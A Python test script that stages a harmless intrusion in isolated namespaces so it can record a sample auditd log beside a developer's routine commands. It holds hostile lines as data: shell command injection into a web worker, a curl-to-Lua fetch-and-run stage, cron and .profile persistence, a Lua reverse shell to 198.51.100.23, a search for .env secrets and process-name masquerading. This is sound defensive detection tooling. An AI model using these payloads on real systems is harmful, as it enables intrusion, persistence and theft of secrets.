"""Records `content/samples/linux-auditd.log`: a small, harmless intrusion told with Lua, and ordinary work beside it.

    sudo python tests/content/record_samples.py [FILE]

Needs root and auditd, curl, lua5.1, lua5.4, lua-socket, luarocks, nmap, neovim, prosody, cron, git, make. Everything
runs in its own mount, network and host-name namespace with empty home, service and temporary folders and a copy of
/etc, so the users, files and cron tables of the story end with it. The only network is the loopback device, which
carries the story's addresses (198.51.100.23 and 203.0.113.77, both set aside for documentation). The kernel is asked
to report these two users alone; nothing of anyone else is recorded.
"""

from __future__ import annotations

import ctypes
import os
import re
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

HOST = "shop-web-03"
WEB, DANA = 1042, 1043  # user ids, and login ids in the audit records
SERVER, LISTENER = "203.0.113.77", ("198.51.100.23", 4443)
CHECKOUT = Path(__file__).resolve().parents[2]
SAMPLE = CHECKOUT / "src/perilune/content/samples/linux-auditd.log"
KEPT = ("SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE", "SOCKADDR", "BPRM_FCAPS")

# What the web shop does all day, and then what someone makes it do. One line is one request's shell command.
REQUESTS = """
file -b upload/1041.png
stat -c %s upload/1041.png
sha256sum upload/1041.png
file -b upload/1042.png
stat -c %s upload/1042.png
stat -c %s upload/1042.png; id
stat -c %s x; curl -fsS http://203.0.113.77/u | lua5.4 -
sha256sum upload/1043.png
file -b upload/1043.png
""".strip().splitlines()

FIRST_STAGE = """
for _, command in ipairs{'id', 'uname -a', 'hostname', 'cat /etc/os-release', 'ps -ef | head -n 5'} do
  os.execute(command .. ' >/dev/null')
end
local users = io.popen 'getent passwd | wc -l' : read 'a'
os.execute [[curl -fsS http://203.0.113.77/k -o /dev/shm/.k.lua]]
os.execute [[nohup lua5.4 /dev/shm/.k.lua >/dev/null 2>&1 &]]
"""

SECOND_STAGE = """
os.execute [[(crontab -l 2>/dev/null; echo "*/10 * * * * lua5.4 /dev/shm/.k.lua") | crontab -]]
os.execute [[echo "lua5.4 /dev/shm/.k.lua >/dev/null 2>&1 &" >> $HOME/.profile]]
local socket = require 'socket'
local link = socket.connect('198.51.100.23', 4443)
if link then
  link:send 'hello\\n'
  for line in function() return (link:receive()) end do
    local out = io.popen(line .. ' 2>&1'):read 'a'
    link:send(#out .. '\\n')
  end
end
"""
ORDERS = (
    "whoami",
    "ls -la /home",
    "find /srv -name '*.env'",
    "bash -c 'exec -a \"[kworker/u4:2]\" lua5.4 /dev/shm/.w.lua'",
    "cp /usr/bin/lua5.4 /dev/shm/.sysd && cd /dev/shm && ./.sysd .w.lua",
    "lua5.4 -e \"os.execute'date'\"",
)

# A developer's morning on the same machine.
MORNING = """
ls -la
git init -q report && cd report
cat > report.lua <<'LUA'
local sum = 0
for line in io.lines(arg[1]) do sum = sum + (tonumber(line:match '(%d+)$') or 0) end
print('orders', sum)
LUA
printf 'mon 12\\ntue 31\\nwed 27\\n' > orders.txt
lua5.4 report.lua orders.txt
printf 'all:\\n\\tlua5.4 report.lua orders.txt\\ncheck:\\n\\tluac5.4 -p report.lua\\n' > Makefile
make -s
make -s check
git add report.lua Makefile
git -c user.name=dana -c user.email=dana@example.org commit -q -m 'Sum the orders'
lua5.4 -e 'print(_VERSION)'
lua5.4 -v
luarocks --local list
luarocks show lpeg
luarocks path --bin
nvim --headless +q report.lua
prosodyctl about
grep -rn 'os.execute(' /usr/share/lua | head -n 3
grep -c lua /etc/services
nmap -sT -p 80,443 127.0.0.1
nmap -p 80 --script http-title 127.0.0.1
apt-cache policy lua5.4
apt list --installed 'lua*'
apt-get -s install lua5.4
dpkg -l lua5.4
tar czf /tmp/report.tgz report.lua
tar tzf /tmp/report.tgz
lua5.1 -e "print(package.path)"
python3 -c 'import json; print(json.dumps({"load": 1}))'
sort orders.txt | uniq -c
df -h /srv
free -m
uptime
crontab -l
for i in 1 2 3 4 5 6; do date; wc -l orders.txt; sed -n 1p orders.txt; awk '{print $2}' orders.txt; done
find . -name '*.lua'
less orders.txt
ls /srv
""".strip()


def main(sample: Path) -> None:
    if os.geteuid() != 0:
        raise SystemExit("record_samples.py: needs root, for the kernel's audit")
    if "enabled 0" not in _run("auditctl", "-s") or "No rules" not in _run("auditctl", "-l"):
        raise SystemExit("record_samples.py: audit is in use on this machine; stop that first")
    with tempfile.TemporaryDirectory() as folder:
        _record(Path(folder))
        lines = list(_scrubbed((Path(folder) / "audit.log").read_text(errors="replace")))
    sample.write_text("\n".join(lines) + "\n")
    print(f"{sample}: {len(lines)} records, {sample.stat().st_size:,} bytes")


def _run(*command: str) -> str:
    return subprocess.run(command, check=True, capture_output=True, text=True).stdout


def _record(folder: Path) -> None:
    """The story, between the start and the end of an audit daemon of our own."""
    (folder / "plugins.d").mkdir(mode=0o750)
    config = folder / "auditd.conf"
    config.write_text(
        f"log_file = {folder}/audit.log\nlog_format = RAW\nlog_group = root\nflush = INCREMENTAL_ASYNC\nfreq = 50\n"
        f"local_events = yes\nwrite_logs = yes\nname_format = USER\nname = {HOST}\nplugin_dir = {folder}/plugins.d\n"
        "max_log_file = 64\nmax_log_file_action = IGNORE\nspace_left = 75\nspace_left_action = IGNORE\n"
        "admin_space_left = 50\nadmin_space_left_action = IGNORE\ndisk_full_action = IGNORE\n"
        "disk_error_action = IGNORE\nuse_libwrap = no\n"
    )
    config.chmod(0o640)
    daemon = subprocess.Popen(["auditd", "-n", "-c", str(folder)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        time.sleep(2)
        _run("auditctl", "-b", "8192", "-e", "1")
        for user in (WEB, DANA):
            mine = ("-F", "arch=b64", "-F", f"auid={user}")
            _run(*"auditctl -a always,exit".split(), *mine, *"-S execve -S execveat -F success=1 -k exec".split())
            _run(*"auditctl -a always,exit".split(), *mine, *"-S connect -F a2=16 -k net".split())
        inside = ("unshare", "--mount", "--net", "--uts", "--propagation", "private")
        # Named without its folder: a record's PROCTITLE still holds the command line of the program before.
        here = Path(__file__).resolve()
        subprocess.run([*inside, "python3", here.name, "--inside"], cwd=here.parent, check=True, timeout=180)
        time.sleep(2)
    finally:
        for undo in ("-D", "-e0", "-b64"):
            subprocess.run(["auditctl", undo[:2], *([undo[2:]] if undo[2:] else [])], stdout=subprocess.DEVNULL)
        daemon.send_signal(signal.SIGTERM)
        daemon.wait(20)


def _scrubbed(log: str) -> list[str]:
    """Only the records of the two users' commands; refuses a log that names this machine."""
    of_users = set()
    for line in log.splitlines():
        if re.search(rf"type=SYSCALL .*\bauid=({WEB}|{DANA})\b.*key=\"(?:exec|net)\"", line):
            of_users.add(_serial(line))
    kept = [
        line
        for line in log.splitlines()
        if _serial(line) in of_users and re.search(rf"\btype=(?:{'|'.join(KEPT)}) ", line)
    ]
    for secret in (socket.gethostname(), str(CHECKOUT), tempfile.gettempdir() + "/tmp"):
        if any(secret in line or secret.encode().hex().upper() in line for line in kept):
            raise SystemExit(f"record_samples.py: the record names {secret}; nothing was written")
    return kept


def _serial(line: str) -> str:
    found = re.search(r"audit\(([\d.]+:\d+)\)", line)
    return found[1] if found else ""


# What follows runs in the namespaces.


def inside() -> None:
    _furnish()
    server = ThreadingHTTPServer((SERVER, 80), _Stages)
    listener = socket.create_server(LISTENER)
    for target, arguments in ((server.serve_forever, ()), (_give_orders, (listener,))):
        threading.Thread(target=target, args=arguments, daemon=True).start()
    shell = _start(DANA, "/home/dana", ["-bash"], stdin=subprocess.PIPE)
    worker = _start(WEB, "/srv/shop", ["python3", "worker.py"], stdin=subprocess.PIPE)
    requests = iter(REQUESTS)
    for number, line in enumerate(_commands(MORNING)):
        _type(shell, line)
        if number >= 6 and number % 3 == 0:
            _type(worker, next(requests, "true"))
    for line in requests:
        _type(worker, line)
    time.sleep(4)
    for process in (shell, worker):
        process.stdin.close()
        process.wait(30)


def _furnish() -> None:
    """Empty places of our own over the machine's, two users, and the story's addresses on loopback."""
    for place in ("/home", "/srv", "/tmp", "/dev/shm", "/var/spool/cron", "/mnt"):
        _run("mount", "-t", "tmpfs", "-o", "mode=1777", "tmpfs", place)
    Path("/var/spool/cron/crontabs").mkdir(mode=0o1733)
    _run("cp", "-a", "/etc", "/mnt/etc")
    _run("mount", "--bind", "/mnt/etc", "/etc")
    _run("umount", "-l", "/mnt")
    socket.sethostname(HOST)
    Path("/etc/hostname").write_text(f"{HOST}\n")
    Path("/etc/hosts").write_text(f"127.0.0.1 localhost {HOST}\n")
    for name, number, home in (("www-shop", WEB, "/srv/shop"), ("dana", DANA, "/home/dana")):
        _run("useradd", "-u", str(number), "-d", home, "-m", "-s", "/bin/bash", name)
    for address in ("127.0.0.1/8", f"{SERVER}/32", f"{LISTENER[0]}/32"):
        subprocess.run(["ip", "address", "add", address, "dev", "lo"], stderr=subprocess.DEVNULL)
    _run("ip", "link", "set", "lo", "up")
    Path("/srv/shop/worker.py").write_text(
        "import subprocess, sys\nfor line in sys.stdin:\n    subprocess.run(line.strip(), shell=True)\n"
    )
    Path("/dev/shm/.w.lua").write_text("os.execute 'sleep 1'\n")
    upload = Path("/srv/shop/upload")
    upload.mkdir()
    for number in range(1041, 1044):
        (upload / f"{number}.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(64))


def _start(user: int, folder: str, arguments: list[str], stdin: int) -> subprocess.Popen:
    """A process that the audit sees as a session of the user."""
    name = "dana" if user == DANA else "www-shop"
    environment = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": folder, "USER": name, "PAGER": "cat", "LESS": "-FX"}

    def become() -> None:
        Path("/proc/self/loginuid").write_text(str(user))
        os.setgroups([])
        os.setgid(user)
        os.setuid(user)
        ctypes.CDLL(None).prctl(1, signal.SIGKILL)  # PR_SET_PDEATHSIG: nothing outlives the recording

    return subprocess.Popen(
        arguments,
        executable="/bin/bash" if "bash" in arguments[0] else "/usr/bin/python3",
        cwd=folder,
        env=environment,
        stdin=stdin,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        preexec_fn=become,
    )


def _commands(text: str) -> list[str]:
    """The lines a person would type; a here-document is one."""
    return re.findall(r"^(?:cat > (?:.|\n)*?\nLUA|.+)$", text, re.M)


def _type(process: subprocess.Popen, line: str) -> None:
    process.stdin.write(line.encode() + b"\n")
    process.stdin.flush()
    time.sleep(0.6)


def _give_orders(listener: socket.socket) -> None:
    link, _ = listener.accept()
    time.sleep(1)
    for order in ORDERS:
        link.sendall(order.encode() + b"\n")
        time.sleep(1.5)
    link.close()


class _Stages(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = {"/u": FIRST_STAGE, "/k": SECOND_STAGE}.get(self.path, "").encode()
        self.send_response(200)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


if __name__ == "__main__":
    if sys.argv[1:] == ["--inside"]:
        inside()
    else:
        main(Path(sys.argv[1]) if sys.argv[1:] else SAMPLE)
